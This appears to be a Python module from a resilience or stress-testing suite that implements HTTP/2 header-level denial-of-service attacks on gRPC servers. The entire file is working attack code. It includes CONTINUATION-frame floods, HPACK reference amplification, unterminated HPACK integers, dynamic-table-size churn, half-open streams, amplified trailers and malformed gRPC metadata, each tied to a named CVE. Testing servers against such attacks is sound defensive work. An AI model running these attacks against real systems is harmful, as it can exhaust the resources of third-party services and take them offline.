"""Attacks by the heads of requests over HTTP/2: CONTINUATION frames, HPACK, trailers and gRPC's metadata."""

import itertools

import http2_frames as h2
from attacks_by_frames import flood
from front_attack import CHECK, WATCH


def continuations(attack):
    """CVE-2024-27983 and others: a head without an end."""
    connection = attack.connect()
    connection.send(h2.frame(h2.HEADERS, 0, 1, h2.block(h2.grpc_fields(CHECK))))
    flood(attack, connection, h2.frame(h2.CONTINUATION, 0, 1, h2.literal("a", "b" * 1000) * 16))


def empty_continuations(attack):
    connection = attack.connect()
    connection.send(h2.frame(h2.HEADERS, 0, 1))
    flood(attack, connection, h2.frame(h2.CONTINUATION, 0, 1))


def continuations_byte_by_byte(attack):
    """230 frames a second; with gRPC's server this took most of a core."""
    connection = attack.connect()
    connection.send(h2.frame(h2.HEADERS, 0, 1))
    for value in itertools.takewhile(lambda _: attack.running(), h2.literal("a", "b" * 10_000)):
        connection.send(h2.frame(h2.CONTINUATION, 0, 1, bytes([value])))
        attack.wait(1 / 230)


def references_to_a_large_field(attack):
    """CVE-2016-1544: 16 kB of head that stand for 64 MB."""
    connection = attack.connect()
    head = h2.block(h2.grpc_fields(CHECK)) + h2.literal("a", "b" * 4000, indexed=True)
    for stream in attack.streams():
        connection.send(h2.frame(h2.HEADERS, h2.END_HEADERS, stream, head + h2.reference(62) * (h2.MAX_FRAME - len(head))))


def many_fields(attack):
    """CVE-2019-9516 had names and values without a byte; here they have one each."""
    connection = attack.connect()
    head = h2.block(h2.grpc_fields(CHECK, [("a", "b")] * 500))
    for stream in attack.streams():
        connection.send(h2.frame(h2.HEADERS, h2.END_HEADERS, stream, head))


def fields_without_names(attack):
    """CVE-2019-9516."""
    connection = attack.connect()
    head = h2.block(h2.grpc_fields(CHECK)) + h2.literal("", "") * 100
    for stream in attack.streams():
        connection.send(h2.frame(h2.HEADERS, h2.END_HEADERS, stream, head))


def number_without_end(attack):
    """CVE-2023-33953: an integer of HPACK that goes on for ever."""
    connection = attack.connect()
    connection.send(h2.frame(h2.HEADERS, 0, 1, b"\x00\x7f" + b"\x80" * 10_000))
    flood(attack, connection, h2.frame(h2.CONTINUATION, 0, 1, b"\x80" * 10_000))


def table_sizes(attack):
    """CVE-2023-33953: a head of changes of the dynamic table's size."""
    connection = attack.connect()
    changes = (h2.integer(0, 5, 0x20) + h2.integer(4096, 5, 0x20)) * 4000
    for stream in attack.streams():
        connection.send(h2.frame(h2.HEADERS, h2.END_HEADERS, stream, changes + h2.block(h2.grpc_fields(CHECK))))


def half_heads(attack):
    """Heads over HTTP/2 of which the end never comes."""
    for _ in range(50):
        attack.connect().send(h2.frame(h2.HEADERS, 0, 1, h2.block(h2.grpc_fields(CHECK))))
    attack.wait_for_end()


def references_in_trailers(attack):
    """Fields that are not used, of which each byte stands for 4,000."""
    connection = attack.connect()
    trailers = h2.literal("a", "b" * 4000, indexed=True)
    trailers += h2.reference(62) * (h2.MAX_FRAME - len(trailers))
    for stream in attack.streams():
        connection.send(h2.open_grpc(stream, CHECK), h2.frame(h2.HEADERS, h2.END_HEADERS | h2.END_STREAM, stream, trailers))


def commas_in_a_binary_header(attack):
    """16 kB of head that stand for 56 MB: a proxy joins values by commas, and each has the name."""
    connection = attack.connect()
    fields = h2.grpc_fields(WATCH, [("a" * 8000 + "-bin", "," * 7000)])
    for stream in attack.streams():
        connection.send(h2.head(stream, fields))


def types_that_errors_repeat(attack):
    """Refusals that nobody reads, of a field that costs a byte."""
    fields = [field for field in h2.grpc_fields(CHECK) if field[0] != "content-type"]
    for _ in range(40):
        connection = attack.connect(values={h2.INITIAL_WINDOW_SIZE: 2**31 - 1}, receive_buffer=4096)
        head = h2.block(fields) + h2.literal("content-type", "application/grpc-" + "%" * 3900, indexed=True)
        connection.send(h2.window_update(0, 2**30), h2.frame(h2.HEADERS, h2.END_HEADERS | h2.END_STREAM, 1, head))
        again = h2.block(fields) + h2.reference(62)
        connection.send(*(h2.frame(h2.HEADERS, h2.END_HEADERS | h2.END_STREAM, stream, again) for stream in range(3, 401, 2)))
    attack.wait_for_end()


def queries_by_reference(attack):
    """Requests of 13 bytes with a query of 4 kB: 248 parameters that do not exist, with seven dots each. The model exists, so that
    they are parsed."""
    connection = attack.connect(attack.http_port)
    connection.send(h2.window_update(0, 2**30))
    query = "&".join(["a.a.a.a.a.a.a.a"] * 248)
    # POST and http, of the static table, and two fields for which the dynamic table has just enough room.
    begin = h2.reference(3) + h2.reference(6)
    head = begin + h2.literal(":authority", "localhost", indexed=True)
    head += h2.literal(":path", f"/v1/predict/served?{query}", indexed=True)
    for first in range(1, 512, 64):
        for stream in range(first, first + 64, 2):
            connection.send(h2.frame(h2.HEADERS, h2.END_HEADERS | h2.END_STREAM, stream, head))
            head = begin + h2.reference(62) + h2.reference(63)
        for _ in range(32):
            connection.until(h2.HEADERS)
        # The tests look at the cost of clients that send few bytes a second.
        attack.wait(0.01)


# Headers that gRPC's servers have ended at (CVE-2023-1428, CVE-2023-32731), or gave a meaning to.
ODD_FIELDS = [("grpclb_client_stats", "x"), ("te", "x"), ("lb-cost-bin", "AAAA"), ("grpc-server-stats-bin", "AA"),
              ("grpc-tags-bin", "A"), ("grpc-trace-bin", "AA"), ("grpc-timeout", "9" * 30), ("grpc-encoding", "none"),
              ("grpc-previous-rpc-attempts", "x"), ("grpc-retry-pushback-ms", "-1"), ("host", "x"), ("content-length", "-1"),
              ("user-agent", "\x7f"), ("grpc-message", "%"), ("grpc-status", "99"), ("x-bin", "!"), (":status", "200")]


def odd_fields(attack):
    connection = attack.connect()
    for stream, field in zip(attack.streams(), itertools.cycle(ODD_FIELDS)):
        connection.send(h2.open_grpc(stream, CHECK, [field]), h2.data(stream, h2.message(b"")))
        attack.wait(0.01)
